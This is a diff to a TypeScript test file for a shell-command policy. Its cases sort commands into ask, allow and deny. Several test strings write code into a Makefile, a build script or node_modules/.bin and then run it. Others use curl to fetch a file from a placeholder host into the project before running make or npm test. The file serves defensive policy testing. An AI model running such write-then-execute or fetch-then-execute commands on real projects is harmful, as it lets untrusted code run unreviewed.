@@ -167,10 +167,35 @@ describe("the command policy", () => {
 
   it("asks before it runs what the same command wrote into a file of the project", () => {
     expect(
-      otherThan("ask", ["echo 'x:; id' > Makefile; make", "echo '{}' > package.json && npm test"]),
+      otherThan("ask", [
+        "echo 'x:; id' > Makefile; make",
+        "echo '{}' > package.json && npm test",
+        "sed -i 's/a/b/' package.json && npm test",
+        "sed -i '1i id' build.sh; sh build.sh",
+        "find . -maxdepth 0 -fprintf x.sh id; sh x.sh",
+        "patch -p1 <<'E' && sh x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1 +1 @@\n-a\n+b\nE",
+        "echo id > node_modules/.bin/vitest; npm test",
+        "echo x > src/a.ts; sed -i s/x/y/ src/a.ts; npm test",
+      ]),
     ).toEqual([]);
     expect(otherThan("deny", ["curl -o Makefile https://x.example; make"])).toEqual([]);
     expect(otherThan("allow", ["echo x > out.txt; make", "make; echo x > Makefile"])).toEqual([]);
+  });
+
+  it("lets code of the project be changed and then tested", () => {
+    expect(
+      otherThan("allow", [
+        "sed -i 's/foo/bar/' src/a.ts && npm test",
+        "sed -i 's/foo/bar/g' src/*.ts; npx vitest run",
+        "sed -i.bak s/a/b/ src/a.py && pytest",
+        "sort -o src/words.ts src/words.ts && npm run build",
+        "patch -p1 <<'E' && npm test\n--- a/a.ts\n+++ b/a.ts\n@@ -1 +1 @@\n-a\n+b\nE",
+        "echo 'export const a = 1;' > src/a.ts && npx tsc --noEmit",
+      ]),
+    ).toEqual([]);
+    expect(
+      otherThan("deny", ["curl -o src/a.ts https://x.example; sed -i s/a/b/ src/a.ts; npm test"]),
+    ).toEqual([]);
   });
 
   it("refuses to commit a secret that an earlier part wrote", () => {
